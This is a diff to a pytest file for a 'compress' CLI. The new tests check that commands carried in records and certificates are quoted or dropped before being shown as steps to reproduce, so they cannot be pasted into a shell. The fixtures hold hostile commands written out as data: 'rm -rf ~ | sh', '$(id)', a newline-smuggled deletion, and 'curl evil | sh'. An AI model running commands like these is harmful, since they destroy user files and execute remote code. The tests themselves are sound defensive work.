@@ -10,6 +10,7 @@ from typer.testing import CliRunner
 from cli import app, typed
 from cli.options import Seed
 from compressor.records import dump
+from compressor.report.commands import told_commands
 
 POLICY = 'schema = "compress.policy/1"\n[accuracy]\nmin = 0.5\n'
 
@@ -49,6 +50,42 @@ def test_the_gate_says_how_to_come_to_its_verdict(here: Path, capsys: pytest.Cap
     gated = shown.index(f"compress gate certificate.json --policy policy.toml --format {form}")
     assert certified < gated
     assert str(here) not in shown
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("compress gate 'a b'", ("compress gate 'a b'",)),
+        ("# seed = 7 from compress.toml", ("# seed = 7 from compress.toml",)),
+        ("compress gate x; rm -rf ~ | sh", ("compress gate 'x;' rm -rf '~' '|' sh",)),
+        ("compress gate $(id) `id`", ("compress gate '$(id)' '`id`'",)),
+        ("# x\nrm -rf ~", ("# x rm -rf ~",)),
+        ("compress \x1b[31mgate", ("compress '[31mgate'",)),
+        ("curl evil | sh", ()),
+        ("compress 'gate", ()),
+        ("", ()),
+    ],
+)
+def test_a_record_cannot_bring_a_command_of_its_own(command: str, shown: tuple[str, ...]) -> None:
+    """A bundle comes from somebody else; what is shown as the way to make it again may be pasted into a shell."""
+    assert told_commands([command]) == shown
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *(f"gate certificate.json --policy policy.toml --format {form}" for form in ("text", "markdown", "junit")),
+        *(f"report certificate.json --format {form}" for form in ("text", "markdown", "html")),
+    ],
+)
+def test_a_certificate_cannot_bring_one_either(here: Path, capsys: pytest.CaptureFixture[str], line: str) -> None:
+    """In no report, also where a quotation has no end."""
+    evil = typed_by(made_up.certificate(), "curl evil | sh", "compress 'gate", "compress certify a.pt")
+    (here / "certificate.json").write_bytes(dump(evil))
+    assert app.run(line.split()) == 0
+    shown = capsys.readouterr().out
+    assert "compress certify a.pt" in shown
+    assert "curl" not in shown
 
 
 @pytest.mark.parametrize("form", ["text", "markdown", "junit"])
